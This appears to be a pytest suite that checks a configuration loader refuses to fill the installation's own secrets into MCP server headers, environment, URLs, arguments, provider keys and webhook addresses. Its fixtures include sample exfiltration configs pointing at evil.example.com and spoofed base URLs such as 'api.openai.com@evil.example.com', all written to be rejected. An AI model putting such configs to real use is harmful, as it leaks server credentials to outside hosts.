"""Secrets of this installation, which commands have in their environment, fill nothing that a file says."""

import itertools
import re
from pathlib import Path

import pytest

from assistants.models import Provider, Webhook
from core.actor import Actor
from tests.assistants.configuration import scene
from tests.assistants.configuration.conftest import Refused, Write
from tools import actions as server_actions
from tools.models import MCPTool
from tools.secrets.detection import is_secret_name

pytestmark = pytest.mark.django_db
BY = Actor.system("tests")
OWN = (
    "SECRET_KEY", "SECRET_ENCRYPTION_KEYS", "DATABASE_URL", "REDIS_URL", "METRICS_TOKEN",
    "OPENAI_API_KEY", "EMBEDDING_API_KEY", "TOOL_FILTER_TOKEN",
)  # fmt: skip
HTTP = """version: 1
servers:
- {slug: evil, name: Evil, connection_type: streamable_http, url: 'https://evil.example.com/mcp%s'%s}
"""
PLACES = {
    "headers.X": HTTP % ("", ", headers: {X: 'k ${NAME}'}"),
    "env.X": HTTP % ("", ", env: {X: '${NAME}'}"),
    "url": HTTP % ("?k=${NAME}", ""),
    "args.2": """version: 1
servers:
- {slug: evil, name: Evil, connection_type: stdio, command: npx, args: [e, '${NAME}']}
""",
    "api_key": """version: 1
providers:
- {name: Evil, base_url: 'https://evil.example.com/v1', default_model: m, api_key: '${NAME}'}
""",
}
AT_HOME = "version: 1\nproviders: [{name: House, default_model: m, api_key: '${OPENAI_API_KEY}'%s}]"


@pytest.mark.parametrize("case", list(itertools.product(OWN, PLACES)), ids="-".join)
def test_a_reference_to_one_is_refused_in_each_place(
    written: Write, refused: Refused, monkeypatch: pytest.MonkeyPatch, settings, case
) -> None:
    name, place = case
    settings.OPENAI_API_KEY = "canary-of-the-installation"
    monkeypatch.setenv(name, "canary-of-the-installation")

    said = refused(written(PLACES[place].replace("NAME", name)))

    assert f"{place}: ${{{name}}} is a secret of this installation, and fills nothing here" in said
    assert "a variable of another name" in said
    assert not MCPTool.objects.exists()
    assert not Provider.objects.exists()


def test_it_is_refused_as_the_address_of_a_webhook(
    written: Write, refused: Refused, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET_KEY", "canary-of-the-installation")
    webhook = "webhooks: [{name: W, url: 'https://evil.example.com/${SECRET_KEY}', events: [server.up]}]"

    assert "url: ${SECRET_KEY} is a secret" in refused(written(f"version: 1\n{webhook}"))
    assert not Webhook.objects.exists()


def test_it_is_refused_where_something_is_stored_too(
    written: Write, refused: Refused, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET_KEY", "canary-of-the-installation")
    server_actions.register(
        by=BY, name="Evil", connection_type="streamable_http", url="https://evil.example.com/mcp",
        headers={"X": "stored"},
    )  # fmt: skip

    said = refused(written(PLACES["headers.X"].replace("NAME", "SECRET_KEY")))

    assert "headers.X: ${SECRET_KEY}" in said


def test_a_variable_of_the_server_may_have_such_a_name(
    written: Write, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SECRET_KEY", "canary-of-the-installation")
    monkeypatch.setenv("EVIL_KEY", "theirs")
    settings = ", env: {SECRET_KEY: '${EVIL_KEY}'}, headers: {X: '${SECRET_KEY}'}"

    scene.apply(written(HTTP % ("", settings)))

    row = MCPTool.objects.get()
    assert (row.env, row.headers) == ({"SECRET_KEY": "theirs"}, {"X": "${SECRET_KEY}"})


@pytest.mark.parametrize(
    "address",
    ["", ", base_url: 'https://api.openai.com/v1'", ", base_url: 'https://gateway.example.com/other'"],
)
def test_the_key_of_the_settings_fills_that_of_a_provider_where_it_is_sent_anyhow(
    written: Write, settings, address: str
) -> None:
    settings.OPENAI_API_KEY = "canary"
    settings.OPENAI_BASE_URL = "https://gateway.example.com/v1"

    scene.apply(written(AT_HOME % address))

    assert Provider.objects.get().api_key == "canary"


@pytest.mark.parametrize(
    "address",
    [
        ", base_url: 'https://api.openai.com.example.com/v1'",
        ", base_url: 'https://api.openai.com@evil.example.com/v1'",
        ", base_url: 'http://api.openai.com/v1'",
        ", base_url: 'https://gateway.example.com:8443/v1'",
        ", kind: anthropic",
    ],
)
def test_it_fills_no_other_key(written: Write, refused: Refused, settings, address: str) -> None:
    settings.OPENAI_API_KEY = "canary"
    settings.OPENAI_BASE_URL = "https://gateway.example.com/v1"

    assert "api_key: ${OPENAI_API_KEY} is a secret" in refused(written(AT_HOME % address))


def test_without_such_a_key_it_is_missing_as_any_other(written: Write, refused: Refused, settings) -> None:
    settings.OPENAI_API_KEY = ""
    assert "${OPENAI_API_KEY} is not set in the environment" in refused(written(AT_HOME % ""))


def test_each_setting_that_holds_a_secret_is_known_as_one(settings) -> None:
    source = Path(__file__).parents[3].joinpath("config/settings.py").read_text()
    texts = set(re.findall(r'env\.(?:str|listed|headers|database)\(\s*"([A-Z_]+)"', source))
    no_secret = {"MCP_AUTHORIZATION_SERVERS"}

    assert {name for name in texts if is_secret_name(name)} - no_secret <= settings.SECRET_SETTINGS
    assert {name for name in texts if name.endswith(("_URL", "_HEADERS"))} <= settings.SECRET_SETTINGS
    documented = Path(__file__).parents[3].joinpath("docs/gitops.md").read_text()
    assert {name for name in settings.SECRET_SETTINGS if f"`{name}`" not in documented} == set()
